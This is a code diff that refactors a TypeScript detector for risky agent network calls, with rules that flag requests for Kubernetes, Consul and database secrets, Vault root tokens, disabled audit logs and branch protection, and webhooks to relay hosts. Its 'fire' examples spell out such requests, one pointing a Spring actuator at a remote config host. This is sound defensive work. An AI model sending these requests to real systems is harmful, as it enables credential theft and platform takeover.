@@ -5,7 +5,7 @@ import { executedStrings, foldedStrings, sqlTokens, type Token } from '../knowle
 import { jsonOrUndefined, nameWords, paramsJson, readAs, readByShape, searchTool, toolDatabase } from '../tool-shape.js';
 import { privateStoreRead } from './artifacts.js';
 import { searchTerms } from './credential.js';
-import { isJsonObject, type ToolCall, type UnknownCall } from '../toolcall.js';
+import { isJsonObject, type NetworkCall, type UnknownCall } from '../toolcall.js';
 import { canonicalPath, classifyPath } from '../knowledge/paths.js';
 import { classifyHost, destinationOf, EXFIL_KINDS, firstUrl, urlPath } from '../knowledge/hosts.js';
 import { credentialHeader } from '../knowledge/secrets.js';
@@ -220,8 +220,6 @@ const adminPort = (d: { kind: string; port?: number }) => d.port !== undefined &
 /** A request that carries a login: a user, a netrc file, a client certificate or an Authorization header. */
 const signsIn = (c: SimpleCommand): boolean => c.argv.some((w, k) => ['-u', '--user', '--netrc', '-n', '--netrc-file', '--cert', '-E'].includes(w) || w.startsWith('--user=') || w.startsWith('--netrc-file=') || ((c.argv[k - 1] === '-H' || c.argv[k - 1] === '--header') && /^authorization:/i.test(w)));
 
-type NetworkCall = Extract<ToolCall, { kind: 'network' }>;
-
 /** A Network call that signs in (an Authorization, token or API-key header): the team's operator at work, as signsIn says of curl. */
 const signedRequest = (call: NetworkCall) => Object.keys(call.headers).some((k) => credentialHeader(k) && call.headers[k]!.length > 0);
 
@@ -360,8 +358,20 @@ function droppedObjects(i: AnalysisInput): string[] {
   return out;
 }
 
+/** A kind of API request, by its method (any when not given), its lower-cased path, its URL's query and its body. */
+interface ApiRequest { what: string; path: RegExp; method?: readonly string[]; query?: RegExp; body?: RegExp }
+
+/** The first request of a table a Network call is, with the evidence to report. */
+function requestOf(table: readonly ApiRequest[], call: NetworkCall): string | undefined {
+  const url = call.url.slice(0, 4096);
+  const path = urlPath(url).toLowerCase();
+  const body = (call.body ?? '').slice(0, 64 * 1024);
+  const hit = table.find((a) => (a.method === undefined || a.method.includes(call.method)) && a.path.test(path) && (a.query === undefined || a.query.test(url)) && (a.body === undefined || a.body.test(body)));
+  return hit ? `${call.method} ${url.slice(0, 160)} (${hit.what})` : undefined;
+}
+
 /** Infrastructure API requests that answer with the platform's secrets or run code (PX-CALL-044), by path, query and body. */
-const SECRET_APIS: ReadonlyArray<{ what: string; path: RegExp; method?: readonly string[]; query?: RegExp; body?: RegExp }> = [
+const SECRET_APIS: readonly ApiRequest[] = [
   { what: "Kubernetes secrets", path: /^\/api\/v1\/(?:namespaces\/[^/]+\/)?secrets(?:\/[^/]+)?$/, method: ['GET'] },
   { what: "a shell in a pod", path: /^\/api\/v1\/namespaces\/[^/]+\/pods\/[^/]+\/(?:exec|attach)$/ },
   { what: "the kubelet runs a command", path: /^\/(?:run|exec)\/[^/]+\/[^/]+/ },
@@ -377,7 +387,7 @@ const SECRET_APIS: ReadonlyArray<{ what: string; path: RegExp; method?: readonly
  * Administration through a platform's REST API that hands out control, removes a guard or blinds the defenders
  * (PX-CALL-045): by method, path and body, whatever host serves the API (a self-hosted Vault or GitLab, GitHub's API).
  */
-const PLATFORM_TAKEOVERS: ReadonlyArray<{ what: string; method: readonly string[]; path: RegExp; body?: RegExp }> = [
+const PLATFORM_TAKEOVERS: readonly ApiRequest[] = [
   // Vault: a root or parentless token, a login with the root policy, a policy over every path, the seal, the audit log, a whole secrets engine, a key exported
   { what: 'a Vault token with the root policy or no parent', method: ['POST', 'PUT'], path: /^\/v1\/auth\/token\/create(?:-orphan)?$/, body: /"(?:token_)?policies"\s*:\s*(?:\[[^\]]{0,200}"root"|"root")|"no_parent"\s*:\s*true/ },
   { what: 'a Vault login with the root policy', method: ['POST', 'PUT'], path: /^\/v1\/auth\/[^/]+\/(?:users|role)\/[^/]+$/, body: /"(?:token_)?policies"\s*:\s*(?:\[[^\]]{0,200}"root"|"[^"]{0,100}\broot\b)/ },
@@ -1096,14 +1106,7 @@ export const RULES: readonly Rule[] = [
     id: 'PX-CALL-044', name: 'infrastructure-api-hands-out-secrets-or-runs-code', score: 80, tactic: 'credential_access', technique: 'T1552.007',
     message: "Asks an infrastructure API for its secrets, or has it run code: a cluster's secrets, a pod's shell, a key-value store's whole tree, password fields of a search index, a database's user records, a Spring app's environment or heap",
     why: 'These endpoints answer with every credential the platform holds, or run what they are given, to whoever can reach them: one request is the whole store.',
-    check: (i) => {
-      if (i.call.kind !== 'network') return undefined;
-      const url = i.call.url.slice(0, 4096);
-      const path = urlPath(url).toLowerCase();
-      const body = (i.call.body ?? '').slice(0, 64 * 1024);
-      const hit = SECRET_APIS.find((a) => (a.method === undefined || a.method.includes(i.call.kind === 'network' ? i.call.method : '')) && a.path.test(path) && (a.query === undefined || a.query.test(url)) && (a.body === undefined || a.body.test(body)));
-      return hit ? `${i.call.method} ${url.slice(0, 160)} (${hit.what})` : undefined;
-    },
+    check: (i) => (i.call.kind === 'network' ? requestOf(SECRET_APIS, i.call) : undefined),
     examples: {
       fire: [{ Network: { method: 'GET', url: 'https://10.0.4.2:6443/api/v1/secrets', headers: { Authorization: 'Bearer eyJhbGciOi' } } }, { Network: { method: 'GET', url: 'https://k8s.internal:6443/api/v1/namespaces/ops/secrets/db-root' } }, { Network: { method: 'POST', url: 'https://k8s.internal:6443/api/v1/namespaces/web/pods/web-1/exec?command=sh' } }, { Network: { method: 'GET', url: 'http://consul.internal:8500/v1/kv/?recurse' } }, { Network: { method: 'POST', url: 'https://es.internal:9200/accounts/_search', body: '{"_source":["email","password_hash"],"size":10000}' } }, { Network: { method: 'GET', url: 'http://couch.internal:5984/_users/_all_docs?include_docs=true' } }, { Network: { method: 'GET', url: 'http://127.0.0.1:8080/actuator/heapdump' } }, { Network: { method: 'POST', url: 'http://127.0.0.1:8080/actuator/env', body: '{"name":"spring.cloud.bootstrap.location","value":"http://203.0.113.9/b.yml"}' } }],
       quiet: [{ Network: { method: 'GET', url: 'https://10.0.4.2:6443/api/v1/namespaces/web/pods', headers: { Authorization: 'Bearer eyJhbGciOi' } } }, { Network: { method: 'GET', url: 'http://consul.internal:8500/v1/kv/config/web/max_conns' } }, { Network: { method: 'POST', url: 'https://es.internal:9200/logs-*/_search', body: '{"query":{"match":{"level":"error"}}}' } }, { Network: { method: 'GET', url: 'http://localhost:8080/actuator/health' } }, { Network: { method: 'GET', url: 'http://couch.internal:5984/orders/_all_docs' } }],
@@ -1115,15 +1118,12 @@ export const RULES: readonly Rule[] = [
     why: 'A root token, a write deploy key, branch protection removed, Owner at a subscription, a super administrator or every alert silenced is a way in, or a way to stay unseen, that outlives the session.',
     check: (i) => {
       if (i.call.kind !== 'network') return undefined;
-      const method = i.call.method;
-      const path = urlPath(i.call.url.slice(0, 4096));
-      const body = (i.call.body ?? '').slice(0, 64 * 1024);
-      const hit = PLATFORM_TAKEOVERS.find((t) => t.method.includes(method) && t.path.test(path.toLowerCase()) && (t.body === undefined || t.body.test(body)));
-      if (hit) return `${method} ${i.call.url.slice(0, 160)} (${hit.what})`;
+      const taken = requestOf(PLATFORM_TAKEOVERS, i.call);
+      if (taken) return taken;
       // an organization's or repository's webhook pointed at a drop: every push, merge and job event goes there
-      const hook = method === 'POST' && /^\/(?:orgs\/[^/]+|repos\/[^/]+\/[^/]+|api\/v4\/(?:groups|projects)\/[^/]+)\/hooks$/.test(path.toLowerCase()) ? firstUrl(body) : undefined;
+      const hook = i.call.method === 'POST' && /^\/(?:orgs\/[^/]+|repos\/[^/]+\/[^/]+|api\/v4\/(?:groups|projects)\/[^/]+)\/hooks$/.test(urlPath(i.call.url.slice(0, 4096)).toLowerCase()) ? firstUrl((i.call.body ?? '').slice(0, 64 * 1024)) : undefined;
       const kind = hook === undefined ? undefined : destinationOf(hook)?.kind;
-      return kind !== undefined && EXFIL_KINDS.has(kind) ? `${method} ${i.call.url.slice(0, 160)} (a webhook to ${hook})` : undefined;
+      return kind !== undefined && EXFIL_KINDS.has(kind) ? `${i.call.method} ${i.call.url.slice(0, 160)} (a webhook to ${hook})` : undefined;
     },
     examples: {
       fire: [{ Network: { method: 'POST', url: 'https://vault.corp.internal:8200/v1/auth/token/create', headers: { 'X-Vault-Token': 'hvs.x' }, body: '{"policies":["root"]}' } }, { Network: { method: 'DELETE', url: 'https://vault.corp.internal:8200/v1/sys/audit/file' } }, { Network: { method: 'POST', url: 'https://api.github.com/repos/acme/api/keys', body: '{"title":"ci","key":"ssh-ed25519 AAAA x","read_only":false}' } }, { Network: { method: 'DELETE', url: 'https://api.github.com/repos/acme/api/branches/main/protection' } }, { Network: { method: 'POST', url: 'https://cloudresourcemanager.googleapis.com/v1/projects/acme-prod:setIamPolicy', body: '{"policy":{"bindings":[{"role":"roles/owner","members":["user:ops.backup@gmail.com"]}]}}' } }, { Network: { method: 'POST', url: 'http://alertmanager.corp.internal:9093/api/v2/silences', body: '{"matchers":[{"name":"alertname","value":".*","isRegex":true}],"endsAt":"2030-01-01T00:00:00Z"}' } }, { Network: { method: 'POST', url: 'https://api.github.com/orgs/acme/hooks', body: '{"name":"web","config":{"url":"https://relay-7.trycloudflare.com/gh"},"events":["*"]}' } }],
